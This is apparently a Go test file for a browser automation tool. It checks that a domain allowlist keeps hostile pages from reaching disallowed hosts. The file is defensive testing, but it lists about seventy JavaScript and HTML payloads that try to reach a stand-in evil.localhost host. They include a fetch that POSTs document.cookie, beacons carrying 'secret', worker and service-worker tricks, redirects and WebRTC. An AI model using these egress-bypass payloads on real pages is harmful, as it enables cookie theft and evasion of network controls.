package session_test

import (
	"fmt"
	"maps"
	"net"
	"net/http"
	"net/http/httptest"
	"slices"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/skua-browser/skua/internal/sessiontest"

	"github.com/coder/websocket"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/skua-browser/skua/guard/policy"
)

// An attack is a way in which a page tries to reach a host that it may not reach. The page is at good.localhost; the
// host has the attack's name, so that the log of the servers tells which attacks got through, and the log of refusals
// which were tried.
type attack struct {
	name string
	// EVIL is the origin of the host that is not allowed, HOST that without a scheme, GOOD the origin of the page
	page  string
	quiet bool // what is refused is not told: the page says in its title that it has tried
	blind bool // a browser that we attached to does not let it be kept from the network, see docs/policy.md
	long  bool // it takes several documents to try, wherever that is: the last one says in its title that it has tried
}

// done is what a page does when it has tried.
const done = `document.title='tried'`

// leaving is a page that starts workers and goes on to another one again and again, sooner or later after the workers:
// while they are told what they may not.
func leaving(worker string) string {
	return `<script>
		const n = +location.search.slice(1), rounds = 6;
		for (let i = 0; i < 4; i++) {
			const w = new Worker("` + worker + `");
			w.onmessage = w.onerror = () => { if (n >= rounds) ` + done + ` };
		}
		onload = () => n < rounds && setTimeout(() => location.search = n + 1, n * 6);
	</script>`
}

// served is a page with a worker whose script a service worker makes: made is that script, and script what says so.
func served(service string) string {
	return `<script>
		const made = "const made='w=new WebSocket(\"ws://HOST/\");w.onerror=w.onopen=()=>postMessage(1)',script={headers:{'Content-Type':'text/javascript'}};";
		const tried = () => ` + done + `;
		if (navigator.serviceWorker.controller) {
			const w = new Worker(location.pathname + "/made");
			w.onmessage = w.onerror = tried;
		} else navigator.serviceWorker.register("GOOD/js/" + made + "` + service + `", {scope: location.pathname}).then(r => {
			const s = r.installing || r.waiting || r.active, look = () => s.state == "redundant" ? tried() : s.state == "activated" && location.reload();
			s.onstatechange = look;
			look();
		});
	</script>`
}

var attacks = []attack{
	{name: "image", page: `<img src="EVIL/">`},
	{name: "script", page: `<script src="EVIL/"></script>`},
	{name: "stylesheet", page: `<link rel=stylesheet href="EVIL/">`},
	{name: "import", page: `<style>@import "EVIL/";</style>`},
	{name: "font", page: `<style>@font-face{font-family:f;src:url(EVIL/)} p{font-family:f}</style><p>x`},
	{name: "background", page: `<p style="background:url(EVIL/)">x`},
	{name: "frame", page: `<iframe src="EVIL/"></iframe>`},
	{name: "object", page: `<object data="EVIL/"></object>`},
	{name: "embed", page: `<embed src="EVIL/" type="text/html">`},
	{name: "video", page: `<video src="EVIL/" preload=auto autoplay></video>`},
	{name: "track", page: `<video crossorigin><track default src="EVIL/"></video>`},
	{name: "preload", page: `<link rel=preload as=script href="EVIL/">`},
	{name: "modulepreload", page: `<link rel=modulepreload href="EVIL/">`},
	{name: "prefetch", page: `<link rel=prefetch href="EVIL/">`},
	{name: "module", page: `<script type=module>import("EVIL/")</script>`},
	{name: "fetch", page: `<script>fetch("EVIL/")</script>`},
	{name: "fetch-no-cors", page: `<script>fetch("EVIL/",{mode:"no-cors",method:"POST",body:document.cookie})</script>`},
	{name: "fetch-keepalive", page: `<script>fetch("EVIL/",{mode:"no-cors",keepalive:true})</script>`},
	{name: "xhr", page: `<script>x=new XMLHttpRequest;x.open("GET","EVIL/");x.send()</script>`},
	{name: "beacon", page: `<script>navigator.sendBeacon("EVIL/","secret")</script>`},
	{
		name: "beacon-unload",
		page: `<script>addEventListener("pagehide",()=>navigator.sendBeacon("EVIL/","secret"));onload=()=>setTimeout(()=>location="GOOD/blank",0)</script>`,
	},
	{
		name: "keepalive-unload",
		page: `<script>addEventListener("pagehide",()=>fetch("EVIL/",{mode:"no-cors",keepalive:true}));onload=()=>setTimeout(()=>location="GOOD/blank",0)</script>`,
	},
	{name: "eventsource", page: `<script>new EventSource("EVIL/")</script>`},
	{
		name: "websocket", page: `<script>w=new WebSocket("ws://HOST/");w.onerror=w.onopen=()=>` + done + `</script>`,
		quiet: true,
	},
	{name: "ping", page: `<a id=a href="#x" ping="EVIL/">x</a><script>onload=()=>a.click()</script>`},
	{name: "csp-report", page: `<meta http-equiv=x><img src="GOOD/blocked.png">`},
	{name: "link-header", page: `x`},
	{name: "refresh-header", page: `x`},
	{name: "meta-refresh", page: `<meta http-equiv=refresh content="0;url=EVIL/">`},
	{name: "location", page: `<script>location="EVIL/"</script>`},
	{name: "form-get", page: `<form id=f action="EVIL/"><input name=a value=b></form><script>f.submit()</script>`},
	{
		name: "form-post",
		page: `<form id=f method=post action="EVIL/"><input name=a value=b></form><script>f.submit()</script>`,
	},
	{
		name: "form-blank",
		page: `<form id=f target=_blank action="EVIL/"><input name=a value=b></form><script>f.submit()</script>`,
	},
	{name: "popup", page: `<script>open("EVIL/")</script>`},
	{name: "popup-later", page: `<script>w=open("about:blank");setTimeout(()=>w.location="EVIL/",20)</script>`},
	{name: "popup-fetches", page: `<script>w=open("about:blank");w.fetch("EVIL/",{mode:"no-cors"})</script>`},
	{name: "popup-noopener", page: `<script>open("EVIL/","","noopener")</script>`},
	{name: "link-blank", page: `<a id=a target=_blank href="EVIL/">x</a><script>onload=()=>a.click()</script>`},
	{name: "javascript-url", page: `<iframe src="javascript:fetch('EVIL/',{mode:'no-cors'})"></iframe>`},
	{name: "data-frame", page: `<iframe src="data:text/html,<script>fetch('EVIL/',{mode:'no-cors'})</script>"></iframe>`},
	{name: "srcdoc", page: `<iframe srcdoc="<img src='EVIL/'>"></iframe>`},
	{
		name: "sandboxed",
		page: `<iframe sandbox="allow-scripts" srcdoc="<script>fetch('EVIL/',{mode:'no-cors'})</script>"></iframe>`,
	},
	{name: "sandboxed-image", page: `<iframe sandbox srcdoc="<img src='EVIL/'>"></iframe>`},
	{
		name: "sandboxed-nested",
		page: `<iframe sandbox="allow-scripts" srcdoc="<iframe srcdoc='<img src=EVIL/>'></iframe>"></iframe>`,
	},
	{
		name: "sandboxed-made",
		page: `<script>f=document.createElement("iframe");f.sandbox="allow-scripts";f.srcdoc="<script>fetch('EVIL/',{mode:'no-cors'})<\/script>";document.documentElement.append(f)</script>`,
	},
	{
		name: "sandboxed-websocket",
		page: `<iframe sandbox="allow-scripts" srcdoc="<script>w=new WebSocket('ws://HOST/');w.onerror=w.onopen=()=>parent.postMessage(1,'*')</script>"></iframe><script>onmessage=()=>` + done + `</script>`, quiet: true,
	},
	{
		name: "blob-frame",
		page: `<script>f=document.createElement("iframe");f.src=URL.createObjectURL(new Blob(["<img src=EVIL/>"],{type:"text/html"}));document.documentElement.append(f)</script>`,
	},
	{
		name: "blob-page",
		page: `<script>location=URL.createObjectURL(new Blob(["<img src=EVIL/>"],{type:"text/html"}))</script>`,
	},
	{
		name: "early-frame",
		page: `<script>f=document.createElement("iframe");document.documentElement.append(f);f.contentWindow.fetch("EVIL/",{mode:"no-cors"})</script>`,
	},
	{name: "redirect", page: `<script>location="GOOD/to/EVIL/"</script>`},
	{name: "redirect-image", page: `<img src="GOOD/to/EVIL/">`},
	{name: "redirect-fetch", page: `<script>fetch("GOOD/to/EVIL/",{mode:"no-cors"})</script>`},
	{name: "redirect-frame", page: `<iframe src="GOOD/to/EVIL/"></iframe>`},
	{name: "redirect-twice", page: `<img src="GOOD/to/GOOD/to/EVIL/">`},
	{name: "redirect-beacon", page: `<script>navigator.sendBeacon("GOOD/to/EVIL/")</script>`},
	{name: "worker", page: `<script>new Worker("GOOD/js/fetch('EVIL/',{mode:'no-cors'})")</script>`},
	{
		name: "worker-blob",
		page: `<script>new Worker(URL.createObjectURL(new Blob(["fetch('EVIL/',{mode:'no-cors'})"])))</script>`,
	},
	{name: "worker-import", page: `<script>new Worker("GOOD/js/importScripts('EVIL/')")</script>`},
	{
		name: "worker-nested",
		page: `<script>new Worker("GOOD/js/new Worker('GOOD/js/fetch(\"EVIL/\",{mode:\"no-cors\"})')")</script>`,
	},
	{
		name: "worker-websocket",
		page: `<script>w=new Worker("GOOD/js/w=new WebSocket('ws://HOST/');w.onerror=w.onopen=()=>postMessage(1)");w.onmessage=()=>` + done + `</script>`, quiet: true,
	},
	{
		name: "worker-leaving", page: leaving(`GOOD/js/w=new WebSocket('ws://HOST/');w.onerror=w.onopen=()=>postMessage(1)`),
		quiet: true, long: true,
	},
	{
		name: "worker-leaving-nested",
		page: leaving(
			`GOOD/js/w=new Worker('GOOD/js/w=new WebSocket(\"ws://HOST/\");w.onerror=w.onopen=()=>postMessage(1)');w.onmessage=w.onerror=()=>postMessage(1)`), quiet: true, long: true,
	},
	{
		name: "worker-answered",
		page: served(`onfetch=e=>{if(e.request.destination=='worker')e.respondWith(new Response(made,script))}`), quiet: true,
		long: true,
	},
	{
		name: "worker-routed",
		page: served(
			`oninstall=e=>e.waitUntil(caches.open('c').then(c=>c.put('GOOD/attack/worker-routed/made',new Response(made,script))).then(()=>e.addRoutes({condition:{urlPattern:'/attack/worker-routed/made'},source:'cache'})));onfetch=()=>0`), quiet: true, long: true,
	},
	{name: "shared-worker", page: `<script>new SharedWorker("GOOD/js/fetch('EVIL/',{mode:'no-cors'})")</script>`},
	{
		name: "service-worker",
		page: `<script>navigator.serviceWorker.register("GOOD/js/fetch('EVIL/',{mode:'no-cors'})")</script>`,
	},
	{
		name: "service-worker-import",
		page: `<script>navigator.serviceWorker.register("GOOD/js/importScripts('EVIL/')")</script>`,
	},
	{name: "download-link", page: `<a id=a download href="EVIL/download">x</a><script>onload=()=>a.click()</script>`},
	{name: "download", page: `<script>onload=()=>location="EVIL/download"</script>`},
	{name: "svg", page: `<svg><image href="EVIL/"/></svg>`},
	{
		name: "speculation",
		page: `<script type=speculationrules>{"prefetch":[{"source":"list","urls":["EVIL/"]}],"prerender":[{"source":"list","urls":["EVIL/"]}]}</script><script>setTimeout(()=>` + done + `,500)</script>`, quiet: true, blind: true,
	},
	{
		name: "webrtc",
		page: `<script>p=new RTCPeerConnection({iceServers:[{urls:"stun:STUN"},{urls:"turn:STUN",username:"u",credential:"c"}]});p.createDataChannel("d");p.onicegatheringstatechange=()=>p.iceGatheringState=="complete"&&(` + done + `);p.createOffer().then(o=>p.setLocalDescription(o))</script><script>if(!window.RTCPeerConnection)` + done + `</script>`, quiet: true,
	},
	{
		name: "webrtc-frame",
		page: `<script>f=document.createElement("iframe");document.documentElement.append(f);try{p=new f.contentWindow.RTCPeerConnection({iceServers:[{urls:"stun:STUN"}]});p.createDataChannel("d");p.onicegatheringstatechange=()=>p.iceGatheringState=="complete"&&(` + done + `);p.createOffer().then(o=>p.setLocalDescription(o))}catch{` + done + `}</script>`, quiet: true,
	},
	{
		name: "webtransport",
		page: `<script>try{w=new WebTransport("https://QUIC/");w.ready.then(()=>` + done + `,()=>` + done + `)}catch{` +
			done + `}</script>`, quiet: true,
	},
}

// battlefield is where attacks are tried: the allowed server, and the one that is not, under the names of the attacks.
type battlefield struct {
	good, evil *httptest.Server
	stun, quic map[string]net.PacketConn // by attack

	mu      sync.Mutex
	reached map[string]int  // how often, by attack
	opened  map[string]bool // the attacks whose pages were asked for
}

func newBattlefield(t testing.TB) *battlefield {
	b := &battlefield{
		reached: map[string]int{}, opened: map[string]bool{}, stun: map[string]net.PacketConn{},
		quic: map[string]net.PacketConn{},
	}
	b.evil = httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		name, _, _ := strings.Cut(r.Host, ".")
		b.hit(name)
		w.Header().Set("Access-Control-Allow-Origin", "*")
		switch {
		case r.Header.Get("Upgrade") != "":
			if c, err := websocket.Accept(w, r, &websocket.AcceptOptions{InsecureSkipVerify: true}); err == nil {
				_ = c.CloseNow()
			}
		case strings.HasSuffix(r.URL.Path, "/download"):
			w.Header().Set("Content-Disposition", "attachment; filename=x.bin")
		}
	}))
	b.evil.Start()
	t.Cleanup(b.evil.Close)
	b.good = httptest.NewServer(http.HandlerFunc(b.serveGood))
	t.Cleanup(b.good.Close)
	for _, name := range []string{"webrtc", "webrtc-frame"} {
		b.stun[name] = b.listen(t, name)
	}
	b.quic["webtransport"] = b.listen(t, "webtransport")
	return b
}

// listen counts what comes over UDP.
func (b *battlefield) listen(t testing.TB, name string) net.PacketConn {
	c, err := net.ListenPacket("udp", "127.0.0.1:0")
	require.NoError(t, err)
	t.Cleanup(func() { _ = c.Close() })
	go func() {
		buf := make([]byte, 2048)
		for {
			if _, _, err := c.ReadFrom(buf); err != nil {
				return
			}
			b.hit(name)
		}
	}()
	return c
}

func (b *battlefield) hit(name string) {
	b.mu.Lock()
	defer b.mu.Unlock()
	b.reached[name]++
}

// wasOpened reports whether a browser has asked for the page of an attack.
func (b *battlefield) wasOpened(name string) bool {
	b.mu.Lock()
	defer b.mu.Unlock()
	return b.opened[name]
}

func (b *battlefield) was(name string) bool {
	b.mu.Lock()
	defer b.mu.Unlock()
	return b.reached[name] > 0
}

func (b *battlefield) names() []string {
	b.mu.Lock()
	defer b.mu.Unlock()
	return slices.Sorted(maps.Keys(b.reached))
}

func (b *battlefield) goodOrigin() string {
	return "http://good.localhost:" + b.good.URL[strings.LastIndex(b.good.URL, ":")+1:]
}

func (b *battlefield) host(name string) string {
	return name + ".evil.localhost:" + b.evil.URL[strings.LastIndex(b.evil.URL, ":")+1:]
}

// fill puts addresses into an attack's page.
func (b *battlefield) fill(a attack, text string) string {
	r := []string{"EVIL", "http://" + b.host(a.name), "HOST", b.host(a.name), "GOOD", b.goodOrigin()}
	if c := b.stun[a.name]; c != nil {
		r = append(r, "STUN", c.LocalAddr().String())
	}
	if c := b.quic[a.name]; c != nil {
		r = append(r, "QUIC", c.LocalAddr().String())
	}
	return strings.NewReplacer(r...).Replace(text)
}

func (b *battlefield) serveGood(w http.ResponseWriter, r *http.Request) {
	path := strings.TrimPrefix(r.URL.EscapedPath(), "/")
	switch {
	case strings.HasPrefix(path, "to/"):
		to := strings.TrimPrefix(r.URL.Path, "/to/")
		if !strings.Contains(to, "://") {
			to = strings.Replace(to, ":/", "://", 1)
		}
		w.Header().Set("Access-Control-Allow-Origin", "*")
		w.Header().Set("Location", to)
		w.WriteHeader(http.StatusTemporaryRedirect)
	case strings.HasPrefix(path, "js/"):
		w.Header().Set("Content-Type", "text/javascript")
		w.Header().Set("Service-Worker-Allowed", "/")
		_, _ = fmt.Fprint(w, strings.TrimPrefix(r.URL.Path, "/js/"))
	case strings.HasPrefix(path, "attack/"):
		for _, a := range attacks {
			if a.name == strings.TrimPrefix(path, "attack/") {
				b.mu.Lock()
				b.opened[a.name] = true
				b.mu.Unlock()
				switch a.name {
				case "csp-report":
					w.Header().Set("Content-Security-Policy", b.fill(a, "img-src 'none'; report-uri EVIL/"))
				case "link-header":
					w.Header().Set("Link", b.fill(a, "<EVIL/>; rel=preload; as=script"))
				case "refresh-header":
					w.Header().Set("Refresh", b.fill(a, "0;url=EVIL/"))
				}
				w.Header().Set("Content-Type", "text/html")
				_, _ = fmt.Fprint(w, "<!doctype html><title>new</title><body>"+b.fill(a, a.page))
			}
		}
	default:
		w.Header().Set("Content-Type", "text/html")
		_, _ = fmt.Fprint(w, "<!doctype html><title>blank</title>")
	}
}

// refusals are the hosts that were refused in the client's session.
func refusals(c *sessiontest.Client) map[string]int {
	c.T.Helper()
	log := sessiontest.Decode[struct{ Refused []policy.Refusal }](c.T, c.Do("policy", "log").Result.Data)
	found := map[string]int{}
	for _, r := range log.Refused {
		found[r.Subject] += r.Count
	}
	return found
}

// hasTried reports whether the page says that it has tried.
func hasTried(c *sessiontest.Client) bool {
	return strings.Contains(c.Try("get", "title").Result.Text, "tried")
}

// squads is how many sessions of a browser of ours try attacks at a time: each mostly waits.
const squads = 6

// run has sessions try attacks at a time, and calls after for each attack.
func (b *battlefield) run(
	t *testing.T, sessions int, newClient func(testing.TB) *sessiontest.Client, args []string, skip func(attack) bool,
	after func(*sessiontest.Client, attack),
) {
	t.Helper()
	t.Run("attacks", func(t *testing.T) { // which ends when all of them have been tried
		for n := range sessions {
			t.Run(strconv.Itoa(n), func(t *testing.T) {
				t.Parallel()
				var mine []attack
				for i, a := range attacks {
					if i%sessions == n && (skip == nil || !skip(a)) {
						mine = append(mine, a)
					}
				}
				b.tryAll(newClient(t), mine, args, after)
			})
		}
	})
}

// tryAll opens the pages of attacks one after the other in a caller's session.
func (b *battlefield) tryAll(
	c *sessiontest.Client, mine []attack, args []string, after func(*sessiontest.Client, attack),
) {
	c.T.Helper()
	c.Do(append(slices.Clone(args), "open", b.goodOrigin()+"/")...)
	for _, a := range mine {
		// a page that goes elsewhere at once may not be seen to arrive
		reply := c.Try("open", b.goodOrigin()+"/attack/"+a.name)
		require.True(c.T, b.wasOpened(a.name), "%s: its page was not opened: %v", a.name, reply.Err)
		after(c, a)
		for _, tab := range c.Tabs() {
			if id, _, _ := strings.Cut(tab, " "); !strings.HasSuffix(tab, " active") {
				_ = c.Try("tab", "close", id)
			}
		}
	}
	c.Do("open", b.goodOrigin()+"/") // whatever the last one began has ended
}

func TestHostilePagesReachTheirHostsWithoutRules(t *testing.T) {
	if testing.Short() {
		t.Skip("deep tier: it proves the attacks, not the product")
	}
	b := newBattlefield(t)
	b.run(t, squads, host.NewClient, nil, nil, func(c *sessiontest.Client, a attack) {
		assert.Eventually(c.T, func() bool {
			return b.was(a.name)
		}, attackLimit, attackLook, "%s: an attack that does not work at all proves nothing", a.name)
		if a.long { // it goes from document to document by itself, which would end the navigation to the next attack
			assert.Eventually(c.T, func() bool { return hasTried(c) }, attackLimit, attackLook, "%s did not end", a.name)
		}
	})
}

// How long an attack may take to be seen, and how often it is looked for.
const (
	attackLimit = 30 * time.Second
	attackLook  = 5 * time.Millisecond
)

// hold runs the attacks under rules, and wants none to reach its host. Told: each is to be seen to be tried, by what
// was refused.
func (b *battlefield) hold(
	t *testing.T, sessions int, newClient func(testing.TB) *sessiontest.Client, args []string, skip func(attack) bool,
	told bool,
) {
	b.run(t, sessions, newClient, args, skip, func(c *sessiontest.Client, a attack) {
		if !told && !a.long {
			return
		}
		assert.Eventually(c.T, func() bool {
			if a.quiet {
				return hasTried(c) || b.was(a.name)
			}
			return refusals(c)[a.name+".evil.localhost"] > 0 || b.was(a.name)
		}, attackLimit, attackLook, "%s was not seen to be tried", a.name)
	})
	require.Empty(t, b.names(), "these reached their host")
}

const onlyGood = "good.localhost"

func TestHostilePagesReachNothingInALaunchedBrowser(t *testing.T) {
	b := newBattlefield(t)
	b.hold(t, squads, host.NewClient, []string{"--allowed-domains", onlyGood}, nil, true)
}

func TestHostilePagesReachNothingInAnAttachedBrowser(t *testing.T) {
	if testing.Short() {
		t.Skip("deep tier: the attacks of a launched browser, once more")
	}
	b := newBattlefield(t)
	theirs := sessiontest.StartTheirs(t, t.TempDir())
	b.hold(t, 1, host.NewClient, []string{"--cdp", theirs.Port, "--allowed-domains", onlyGood}, func(a attack) bool {
		return a.blind
	}, false)
}

func TestHostilePagesReachNothingInAProfile(t *testing.T) {
	if testing.Short() {
		t.Skip("deep tier: the attacks of a launched browser, once more")
	}
	b := newBattlefield(t)
	s := newService(t, t.TempDir())
	b.hold(t, squads, func(t testing.TB) *sessiontest.Client {
		c := s.task()
		c.T = t
		return c
	}, []string{"--allowed-domains", onlyGood}, func(a attack) bool { return a.blind }, false)
}
